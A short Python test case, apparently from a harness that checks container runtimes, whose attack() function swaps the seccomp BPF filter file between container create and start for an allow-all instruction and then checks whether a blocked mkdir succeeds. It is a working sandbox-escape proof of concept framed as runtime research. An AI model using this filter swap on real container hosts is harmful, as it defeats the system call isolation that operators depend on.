"""The file with the system call filter, which crun loads at start, is exchanged for one that allows everything."""

import os
import struct

from bypass import attested, inert, profile

SOURCE = "idea"
WAY = "race"
STOPPED = {"runc": inert("the filter is loaded at create, and in no file"), "crun": attested("seccomp")}
BARE = {"runc": "runc has loaded the filter at create, and keeps no file of it"}

RET, ALLOW = 0x06, 0x7FFF0000


def attack(t):
    t.spec["process"]["noNewPrivileges"] = True
    t.spec["linux"]["seccomp"] = profile.all_but(profile.rule("mkdir mkdirat", "ERRNO"))
    t.create("mkdir /tmp/x && echo made")
    if os.path.exists("/run/bare/%s/seccomp.bpf" % t.id):
        with open("/run/bare/%s/seccomp.bpf" % t.id, "r+b") as bpf:
            bpf.truncate()
            bpf.write(struct.pack("=HBBI", RET, 0, 0, ALLOW))
    t.start()
    return "made" in t.ended() and "mkdir is allowed"
